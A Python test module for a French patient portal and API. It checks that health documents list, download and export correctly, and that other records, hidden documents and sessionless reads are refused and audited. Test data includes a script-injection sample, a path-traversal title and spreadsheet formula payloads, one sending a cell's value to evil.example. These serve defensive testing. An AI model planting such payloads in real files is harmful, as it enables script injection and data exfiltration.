"""The patient's documents and care history in the portal and the patient API: the record
lists them, each file downloads as it was deposited, the whole record as one ZIP with its
index, a PDF's pages and a CDA's text shown in the page; and every read another session may
not make is refused (another record, a sibling's, one hidden from representatives, no contact
yet, no session). One service on SQLite for the module (the files' storage has its own
tests on both databases); one test in Chromium for a real download."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser
from sqlalchemy import select

from central.audit.models import AuditEntry
from central.audit.trail import AuditAction, AuditOutcome
from central.patient.labels import document_type, file_kind, file_size
from central.portal.web import COOKIE
from tests.support.browser import browser
from tests.support.central import Professional, Server, login, own_service
from tests.support.dmp import (
    JEANNE,
    LEO,
    PHARMACIST,
    add_doc,
    claires_child,
    create,
    patient_token,
)
from tests.support.documents import cda_structured, cda_with_pdf, file_in, png, report_pdf
from tests.support.portal import care_lines, jeanne_record

__all__ = ["browser"]  # a fixture from tests.support.browser

JADE = "219113523801764"  # Leo's sister, also Claire's child
MARIE_HELENE = "285022A00412355"  # a record given at the counter without a contact
PDF = report_pdf("Compte rendu de consultation", ["Diabète de type 2 équilibré.", "HbA1c 6,8 %"])
# Stored as text in the narrative and shown as text: never markup in the page.
SCRIPT = '<script>alert("x")</script>'
CDA = cda_structured(
    sections=[("Motif", "Suivi du diabète de type 2."), ("Remarque", SCRIPT)], doc_id="CR-9"
)
CDA_PDF = cda_with_pdf(report_pdf("Sortie d'hospitalisation", ["Retour à domicile."]))
IMAGE = png()


@dataclass
class Site:
    """The module's service: Jeanne's record with files of every kind and her care; Leo's
    and Jade's, their mother Claire logged in with Leo's sheet; a record without contact."""

    server: Server
    jeanne: str  # her patient session
    claire: str  # Claire's session, from Leo's sheet (his legal representative)
    newcomer: str
    docs: dict[str, str]  # name -> document id
    files: dict[str, bytes]


def _file(server: Server, token: str, ins: str, name: str, **body: Any) -> str:
    return str(add_doc(server, token, ins, title=name, **body)["id"])


@pytest.fixture(scope="module")
def site(
    tmp_path_factory: pytest.TempPathFactory,
    identities: Path,
    pharmacist: Professional,
    physician: Professional,
) -> Iterator[Site]:
    with own_service(tmp_path_factory.mktemp("documents"), identities) as (server, mailbox, sms):
        created = jeanne_record(server, pharmacist, physician)
        doctor = login(server, physician)
        docs = {
            "pdf": _file(
                server,
                doctor,
                JEANNE,
                'Consultation "diabète" / ../../etc',
                category="reports",
                loinc="11488-4",
                file=file_in(PDF, "application/pdf", "cr.pdf"),
                days_ago=3,
            ),
            "cda": _file(
                server,
                doctor,
                JEANNE,
                "Compte rendu structuré",
                category="reports",
                file=file_in(CDA, "text/xml"),
                masked_to_professionals=True,
            ),
            "cda_pdf": _file(
                server,
                doctor,
                JEANNE,
                "Sortie d'hospitalisation",
                category="reports",
                loinc="18842-5",
                file=file_in(CDA_PDF, "text/xml"),
            ),
            "png": _file(
                server,
                doctor,
                JEANNE,
                "Photo de la lésion",
                category="exam_results",
                file=file_in(IMAGE, "image/png"),
            ),
        }
        jeanne = patient_token(server, created)
        with server.client(jeanne, kiosk=False) as client:
            listed = client.get("/v1/patient/record").json()["documents"]
        docs["text"] = next(d["id"] for d in listed["medications"])
        care_lines(server, JEANNE, server.clock().date())

        pharmacy = login(server, pharmacist)
        leo = claires_child(server, pharmacy, LEO)
        docs["leo"] = _file(server, pharmacy, LEO, "Vaccin DTP", category="care_history")
        docs["leo_hidden"] = _file(
            server,
            pharmacy,
            LEO,
            "Consultation confidentielle",
            category="reports",
            invisible_to_representatives=True,
            file=file_in(report_pdf("Confidentiel", ["."]), "application/pdf"),
        )
        claires_child(server, pharmacy, JADE)
        docs["jade"] = _file(server, pharmacy, JADE, "Vaccin ROR", category="care_history")
        newcomer = create(server, pharmacy, MARIE_HELENE, authorised_professionals=[PHARMACIST])
        docs["newcomer"] = _file(server, pharmacy, MARIE_HELENE, "Ordonnance", category="other")
        yield Site(
            server,
            jeanne=jeanne,
            claire=patient_token(server, leo),
            newcomer=patient_token(server, newcomer),
            docs=docs,
            files={
                "pdf": PDF,
                "cda": CDA,
                "cda_pdf": CDA_PDF,
                "png": IMAGE,
                "text": b"contenu : Metformine 500 mg",
            },
        )


def portal(site: Site, token: str | None) -> httpx.Client:
    """A browser's requests to the portal, logged in with this session's cookie."""
    cookies = {COOKIE: token} if token else {}
    return httpx.Client(base_url=site.server.url, cookies=cookies, timeout=30)


def api(site: Site, token: str) -> httpx.Client:
    return site.server.client(token, kiosk=False)


# -- what the record page says ----------------------------------------------------------


def test_the_record_lists_the_care_history_and_each_document_with_its_facts(
    site: Site,
) -> None:
    with portal(site, site.jeanne) as client:
        page = client.get("/patient/dossier")
        care = client.get("/patient/soins")
    assert page.status_code == 200, page.text
    text = page.text
    assert "Soins remboursés des 24 derniers mois" in text
    assert "Metformine 500 mg, 30 comprimés (× 2)" in text and "CIP13 3400935955838" in text
    # The five latest on the record's page, every line of 24 months on their own page.
    assert "Voir les 8 soins des 24 derniers mois" in text
    assert "Rééducation du genou" not in text
    for nature in ("Pharmacie", "Consultation", "Biologie", "Imagerie", "Soins infirmiers"):
        assert f'data-label="Nature">{nature}<' in care.text
    for nature in ("Kinésithérapie", "Dentaire", "Hospitalisation"):
        assert f'data-label="Nature">{nature}<' in care.text
    assert "Ligne de plus de 24 mois" not in care.text
    # Each document: its type (LOINC's name), file kind and size, dates, author, labels.
    assert "Compte rendu de consultation · PDF, " in text
    assert re.search(r"CDA structuré, \d+ octets", text), "a file's size"
    assert "Compte rendu de sortie d&#39;hospitalisation · CDA (PDF)" in text
    assert "Résultats d&#39;examens · image PNG, " in text
    assert "déposé le " in text and "Soins du " in text
    assert "<strong>Masqué aux professionnels</strong>" in text
    assert f'href="/patient/document/{site.docs["pdf"]}/fichier"' in text
    assert 'href="/patient/dossier/telechargement"' in text

    with api(site, site.jeanne) as client:
        lines = client.get("/v1/patient/record").json()["care_lines"]
    assert [line["nature"] for line in lines][:2] == ["pharmacie", "consultation"]
    assert len(lines) == 8 and lines == sorted(lines, key=lambda x: x["care_date"], reverse=True)


# -- downloads ---------------------------------------------------------------------------

SAFE_NAME = re.compile(r'^attachment; filename="[0-9]{4}-[0-9]{2}-[0-9]{2}-[a-z0-9-]+\.(\w+)"')


@pytest.mark.parametrize(
    ("name", "extension", "media_type"),
    [
        ("pdf", "pdf", "application/pdf"),
        ("cda", "xml", "text/xml; charset=utf-8"),
        ("png", "png", "image/png"),
        ("text", "txt", "text/plain; charset=utf-8"),
    ],
)
def test_each_document_downloads_as_deposited_from_the_portal_and_the_api(
    site: Site, name: str, extension: str, media_type: str
) -> None:
    document_id = site.docs[name]
    with portal(site, site.jeanne) as client:
        from_portal = client.get(f"/patient/document/{document_id}/fichier")
    with api(site, site.jeanne) as client:
        from_api = client.get(f"/v1/patient/documents/{document_id}/content")
    for response in (from_portal, from_api):
        assert response.status_code == 200, response.text
        assert response.content == site.files[name]
        assert response.headers["content-type"] == media_type
        found = SAFE_NAME.match(response.headers["content-disposition"])
        assert found and found.group(1) == extension, response.headers["content-disposition"]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["cache-control"] == "no-store"
    if name == "pdf":  # quotes, slashes and dots of the title never reach the name
        assert "diabete-etc.pdf" in from_portal.headers["content-disposition"]


def test_the_whole_record_is_one_zip_with_its_index_and_every_file(site: Site) -> None:
    with portal(site, site.jeanne) as client:
        response = client.get("/patient/dossier/telechargement")
    with api(site, site.jeanne) as client:
        from_api = client.get("/v1/patient/export")
    assert response.status_code == 200 and from_api.status_code == 200
    disposition = response.headers["content-disposition"]
    named = re.match(r'^attachment; filename="(dmp-\d{4}-\d{2}-\d{2})\.zip"', disposition)
    assert named, disposition
    assert response.headers["content-type"] == "application/zip"
    assert response.headers["cache-control"] == "no-store"
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = archive.namelist()
    assert names == zipfile.ZipFile(io.BytesIO(from_api.content)).namelist()
    folder = named.group(1)
    assert names[:3] == [f"{folder}/index.html", f"{folder}/documents.csv", f"{folder}/soins.csv"]
    index = archive.read(f"{folder}/index.html").decode("utf-8")
    rows = list(
        csv.DictReader(
            io.StringIO(archive.read(f"{folder}/documents.csv").decode("utf-8-sig")),
            delimiter=";",
        )
    )
    assert len(rows) == 6 == len(names) - 3  # Jeanne's 6 documents, each its file
    for name, expected in site.files.items():
        row = next(r for r in rows if r["fichier"].endswith(_suffix(name)))
        assert archive.read(f"{folder}/{row['fichier']}") == expected, name
        assert f'href="{row["fichier"]}"' in index
    assert next(r for r in rows if r["fichier"].endswith(_suffix("text")))["type"] == (
        "Historique des traitements"
    )
    care = archive.read(f"{folder}/soins.csv").decode("utf-8-sig").splitlines()
    assert len(care) == 1 + 8 and "Ligne de plus de 24 mois" not in "".join(care)
    assert "Kinésithérapie" in index and "Compte rendu structuré" in index
    assert "Consultation &quot;diabète&quot; / ../../etc" in index  # escaped in the index


def _suffix(name: str) -> str:
    return {
        "pdf": "diabete-etc.pdf",
        "cda": "compte-rendu-structure.xml",
        "cda_pdf": "sortie-d-hospitalisation.xml",
        "png": "photo-de-la-lesion.png",
        "text": "metformine-500-mg.txt",
    }[name]


# -- shown in the page -----------------------------------------------------------------


def test_a_pdf_shows_its_pages_as_images_and_a_cda_its_text_escaped(site: Site) -> None:
    with portal(site, site.jeanne) as client:
        page = client.get(f"/patient/document/{site.docs['pdf']}")
        image = client.get(f"/patient/document/{site.docs['pdf']}/page/1.png")
        beyond = client.get(f"/patient/document/{site.docs['pdf']}/page/2.png")
        carried = client.get(f"/patient/document/{site.docs['cda_pdf']}/page/1.png")
        cda = client.get(f"/patient/document/{site.docs['cda']}")
        picture = client.get(f"/patient/document/{site.docs['png']}/image")
    assert page.status_code == 200
    assert f'src="/patient/document/{site.docs["pdf"]}/page/1.png"' in page.text
    assert "Diabète de type 2 équilibré. HbA1c 6,8 %" in page.text  # the page's text
    assert "Compte rendu de consultation · PDF" in page.text
    for png_response in (image, carried):
        assert png_response.status_code == 200
        assert png_response.content.startswith(b"\x89PNG\r\n\x1a\n")
        assert png_response.headers["cache-control"] == "no-store"
    assert beyond.status_code == 404  # a one-page report
    assert cda.status_code == 200
    assert "<h3>Motif</h3>" in cda.text and "Suivi du diabète de type 2." in cda.text
    assert SCRIPT not in cda.text and "&lt;script&gt;" in cda.text
    assert picture.content == IMAGE and picture.headers["content-type"] == "image/png"


# -- refusals ----------------------------------------------------------------------------


def _refused_reads(site: Site, token: str, document_id: str) -> list[int]:
    """The status of every way to read a document, from the portal and the API."""
    with portal(site, token) as client:
        statuses = [
            client.get(f"/patient/document/{document_id}{tail}").status_code
            for tail in ("", "/fichier", "/image", "/page/1.png")
        ]
    with api(site, token) as client:
        statuses.append(client.get(f"/v1/patient/documents/{document_id}/content").status_code)
    return statuses


def test_a_session_never_reads_another_records_document(site: Site) -> None:
    assert _refused_reads(site, site.jeanne, site.docs["leo"]) == [404] * 5
    assert _refused_reads(site, site.claire, site.docs["pdf"]) == [404] * 5
    # Logged in with Leo's sheet, Claire reaches Leo's record only, not his sister's.
    assert _refused_reads(site, site.claire, site.docs["jade"]) == [404] * 5
    with portal(site, site.claire) as client:
        assert client.get(f"/patient/document/{site.docs['leo']}/fichier").status_code == 200
        refused = client.get(f"/patient/document/{site.docs['jade']}")
    assert "document introuvable" in refused.text.lower()


def test_a_representative_never_gets_a_document_hidden_from_representatives(site: Site) -> None:
    hidden = site.docs["leo_hidden"]
    assert _refused_reads(site, site.claire, hidden) == [404] * 5
    with portal(site, site.claire) as client:
        listed = client.get("/patient/dossier").text
        archive = zipfile.ZipFile(io.BytesIO(client.get("/patient/dossier/telechargement").content))
    with api(site, site.claire) as client:
        exported = zipfile.ZipFile(io.BytesIO(client.get("/v1/patient/export").content))
    assert hidden not in listed and "Consultation confidentielle" not in listed
    for zipped in (archive, exported):
        files = [n for n in zipped.namelist() if "/documents/" in n]
        assert len(files) == 1 and files[0].endswith("-vaccin-dtp.txt"), files
        index = zipped.read(zipped.namelist()[0]).decode()
        assert "Vaccin DTP" in index and "Consultation confidentielle" not in index
    with site.server.state.sessions() as db:  # each refused try is in the trail
        refused = db.scalars(
            select(AuditEntry).where(
                AuditEntry.patient_ins == LEO,
                AuditEntry.action == AuditAction.DOCUMENT_READ.value,
                AuditEntry.outcome == AuditOutcome.REFUSED.value,
            )
        ).all()
    assert refused, "a refused read is traced"


def test_no_read_before_a_contact_is_given_and_none_without_a_session(site: Site) -> None:
    document_id = site.docs["newcomer"]
    with portal(site, site.newcomer) as client:
        for path in (
            f"/patient/document/{document_id}",
            f"/patient/document/{document_id}/fichier",
            "/patient/dossier/telechargement",
            "/patient/soins",
        ):
            response = client.get(path)
            assert response.status_code == 303, path
            assert response.headers["location"] == "/patient/premier-contact"
    with portal(site, None) as client:
        for path in (
            f"/patient/document/{site.docs['pdf']}/fichier",
            "/patient/dossier/telechargement",
        ):
            response = client.get(path)
            assert response.status_code == 401 and "application/zip" not in str(response.headers)
            assert "%PDF" not in response.text
    with httpx.Client(base_url=site.server.url) as client:
        assert client.get(f"/v1/patient/documents/{site.docs['pdf']}/content").status_code == 401
        assert client.get("/v1/patient/export").status_code == 401


def test_the_patients_own_reads_are_not_in_their_log(site: Site) -> None:
    with portal(site, site.jeanne) as client:
        assert client.get(f"/patient/document/{site.docs['pdf']}/fichier").status_code == 200
    with api(site, site.jeanne) as client:
        log = client.get("/v1/patient/access-log").json()
    assert log, "her professionals' acts are listed"
    assert not [e for e in log if e["event"] in ("read_document", "listed_documents")]
    with site.server.state.sessions() as db:  # but the trail has them
        mine = db.scalars(
            select(AuditEntry).where(
                AuditEntry.patient_ins == JEANNE,
                AuditEntry.actor_id == f"patient:{JEANNE}",
                AuditEntry.action == AuditAction.DOCUMENT_READ.value,
            )
        ).all()
    assert mine


# -- in a browser --------------------------------------------------------------------------


def test_in_chromium_the_history_shows_and_a_download_is_the_file(
    site: Site, browser: Browser
) -> None:
    context = browser.new_context(viewport={"width": 390, "height": 844}, accept_downloads=True)
    try:
        context.add_cookies(
            [{"name": COOKIE, "value": site.jeanne, "url": f"{site.server.url}/patient"}]
        )
        page = context.new_page()
        page.goto(f"{site.server.url}/patient/dossier")
        assert page.get_by_role(
            "heading", name="Soins remboursés des 24 derniers mois"
        ).is_visible()
        assert page.get_by_text("Metformine 500 mg, 30 comprimés (× 2)").is_visible()
        link = page.get_by_role("link", name=re.compile("^Télécharger « Consultation"))
        with page.expect_download() as downloading:
            link.click()
        download = downloading.value
        assert re.fullmatch(
            r"\d{4}-\d{2}-\d{2}-consultation-diabete-etc\.pdf", download.suggested_filename
        )
        assert Path(download.path()).read_bytes() == PDF
    finally:
        context.close()


def test_sizes_and_types_as_a_french_reader_reads_them() -> None:
    assert [file_size(n) for n in (1, 812, 212 * 1024, 1_468_006)] == [
        "1 octet",
        "812 octets",
        "212 Ko",
        "1,4 Mo",
    ]
    assert document_type("reports", "11488-4") == "Compte rendu de consultation"
    assert document_type("reports", None) == "Comptes rendus"
    assert file_kind("text/xml", "urn:ihe:iti:xds-sd:pdf:2008") == "CDA (PDF)"


def test_what_others_wrote_is_never_a_formula_in_the_exported_spreadsheets() -> None:
    """A title or a care line's label starting like a formula stays text (CSV injection)."""
    from central.patient import export

    written = export._csv(
        ["titre", "libellé"],
        [
            ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "@SUM(1+1)"],
            ["+33 6 00 00 00 00", "-2 comprimés"],
            ["Compte rendu", "Doliprane 1000 mg"],
        ],
    )
    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "'@SUM(1+1)"]
    assert rows[2] == ["'+33 6 00 00 00 00", "'-2 comprimés"]
    assert rows[3] == ["Compte rendu", "Doliprane 1000 mg"]  # the rest untouched
